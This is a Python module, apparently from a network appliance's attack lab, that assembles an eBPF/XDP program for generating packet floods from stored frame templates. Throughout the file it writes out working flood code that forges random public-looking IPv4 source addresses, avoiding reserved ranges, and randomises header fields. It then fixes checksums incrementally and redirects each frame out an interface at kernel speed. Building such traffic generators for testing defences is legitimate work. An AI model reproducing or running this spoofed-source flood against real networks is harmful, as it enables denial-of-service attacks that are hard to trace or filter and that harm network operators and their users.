"""The XDP program that makes a flood out of templates, in BPF assembly: one run of it makes and sends one frame.

    random number ──> template in an array (a frame, and where its places are)
                        source, and up to four words, drawn anew in the template itself
                        checksums made right by the difference (RFC 1624): ~(~sum + ~old + new)
    live frame    <── copied over it, cut to its length, redirected to the interface

A template's checksums are right before and after, so what is drawn may stay in it until it is its turn again. Whoever
lacks a checksum has its place behind the frame, where nobody reads it; whoever has fewer words has there some of which
every bit is always set, so that they never change. So the program has no branch for either.

All runs must be on one processor: the kernel runs a batch with softirqs off, so that no other run comes between.

    r6  the context          r7  the template          r8  a random number         r9  the sum of ~old + new
"""

from __future__ import annotations

import ctypes
import sys
from collections.abc import Iterator

from appliance.ebpf.isa.assembler import assemble
from appliance.ebpf.isa.codec import encode
from appliance.lab.attacks.frames import AttackFrame
from appliance.lab.attacks.kinds import RESERVED_FIRST_BYTES

MOST_BYTES = 1518  # an Ethernet frame of 1500 bytes with a VLAN tag
NOWHERE = 1520  # the place of a checksum that a frame doesn't have
UNCHANGED, ALL_BITS = 1524, 0xFFFF  # a word that it doesn't have
WORDS = 4
LAST_FIRST_BYTE = 223  # of a unicast IPv4 address


class Word(ctypes.Structure):
    """A 16-bit word that is drawn anew, and the bits of it that are always set, in network order."""

    _fields_ = (("place", ctypes.c_uint16), ("bits", ctypes.c_uint16))


class Template(ctypes.Structure):
    """A value of the array. Places are offsets in `frame`; `sent` counts."""

    _fields_ = (
        ("length", ctypes.c_uint32),
        ("source", ctypes.c_uint32),
        ("ip_checksum", ctypes.c_uint32),
        ("checksum", ctypes.c_uint32),
        ("words", Word * WORDS),
        ("sent", ctypes.c_uint64),
        ("frame", ctypes.c_uint8 * (UNCHANGED + 4)),
    )


def template_of(frame: AttackFrame) -> Template:
    """The frame as the program reads it."""

    def place(offset: int | None) -> int:
        return NOWHERE if offset is None else offset

    made = Template(len(frame.data), frame.source, place(frame.ip_checksum), place(frame.checksum))
    words = [*frame.words, *[(UNCHANGED, ALL_BITS)] * (WORDS - len(frame.words))]
    for number, (offset, bits) in enumerate(words):
        made.words[number] = Word(offset, int.from_bytes(bits.to_bytes(2, "big"), sys.byteorder))
    ctypes.memmove(made.frame, frame.data, len(frame.data))
    made.frame[UNCHANGED : UNCHANGED + 2] = [0xFF, 0xFF]
    return made


def flood_program(array: int, count: int, interface: int) -> bytes:
    """The program over `count` templates in the map with the descriptor `array`, sending by the interface with the
    index `interface` of the namespace in which it is run."""
    return encode(assemble(flood_assembly(count, interface)), {"templates": array})


def flood_assembly(count: int, interface: int) -> str:
    lines = [*_choose(count), *_draw_source(), *_mend("ip_checksum")]
    for number in range(WORDS):
        lines += _draw_word(number)
    return "\n".join([*lines, *_mend("checksum"), *_send(interface)])


def _at(name: str) -> int:
    return int(getattr(Template, name).offset)


def _choose(count: int) -> Iterator[str]:
    yield from ("r6 = r1", "call get_prandom_u32", f"w0 %= {count}", "*(u32 *)(r10 - 4) = w0")
    yield from ("r1 = map[templates] ll", "r2 = r10", "r2 += -4", "call map_lookup_elem", "if r0 == 0 goto broken")
    yield f"r7 = r0; r1 = *(u64 *)(r7 + {_at('sent')}); r1 += 1; *(u64 *)(r7 + {_at('sent')}) = r1"


def _place(offset: int, size: str) -> Iterator[str]:
    """r3: where the place lies that is named at `offset` of the template, less the offset of the frame."""
    yield from (f"r2 = *({size} *)(r7 + {offset})", f"if r2 > {UNCHANGED} goto broken", "r3 = r7", "r3 += r2")


def _draw_source() -> Iterator[str]:
    """A public-looking IPv4 source: of a first byte that is reserved, the neighbour is not."""
    yield from ("call get_prandom_u32", "r8 = r0", "r1 = r8", "w1 &= 255", f"w1 %= {LAST_FIRST_BYTE}", "w1 += 1")
    for byte in sorted(RESERVED_FIRST_BYTES & set(range(1, LAST_FIRST_BYTE + 1))):
        yield f"if w1 == {byte} goto reserved"
    yield from ("goto public", "reserved:", "w1 ^= 1", "public:", "w8 &= 0xffffff00", "w1 |= w8")
    yield from _place(_at("source"), "u32")
    yield from (f"w4 = *(u32 *)(r3 + {_at('frame')})", f"*(u32 *)(r3 + {_at('frame')}) = w1", "w4 ^= -1")
    yield from ("r9 = 0", *_add("w4"), *_add("w1"))


def _add(register: str) -> Iterator[str]:
    """Add both halves of a register to the sum."""
    yield from (f"w5 = {register}", "w5 >>= 16", "r9 += r5", f"{register} &= 0xffff", f"r9 += r{register[1:]}")


def _draw_word(number: int) -> Iterator[str]:
    offset = _at("words") + number * ctypes.sizeof(Word)
    yield from ("call get_prandom_u32", f"w1 = *(u16 *)(r7 + {offset + Word.bits.offset})", "w0 |= w1", "w0 &= 0xffff")
    yield from _place(offset + Word.place.offset, "u16")
    yield from (f"w4 = *(u16 *)(r3 + {_at('frame')})", f"*(u16 *)(r3 + {_at('frame')}) = w0")
    yield from ("w4 ^= 0xffff", "r9 += r4", "r9 += r0")


def _mend(checksum: str) -> Iterator[str]:
    yield from _place(_at(checksum), "u32")
    yield from (f"w4 = *(u16 *)(r3 + {_at('frame')})", "w4 ^= 0xffff", "r4 += r9")
    for _ in range(2):
        yield from ("w5 = w4", "w5 >>= 16", "w4 &= 0xffff", "w4 += w5")
    yield from ("w4 ^= 0xffff", f"*(u16 *)(r3 + {_at('frame')}) = w4")


def _send(interface: int) -> Iterator[str]:
    yield from (f"r8 = *(u32 *)(r7 + {_at('length')})", "if r8 < 14 goto broken", f"if r8 > {MOST_BYTES} goto broken")
    yield from ("r1 = r6", "r2 = 0", "r3 = r7", f"r3 += {_at('frame')}", "r4 = r8", "call xdp_store_bytes")
    yield from ("r1 = r6", "r2 = r8", f"r2 += {-MOST_BYTES}", "call xdp_adjust_tail")
    yield from (f"r1 = {interface}", "r2 = 0", "call redirect", "exit", "broken:", "r0 = 0", "exit")
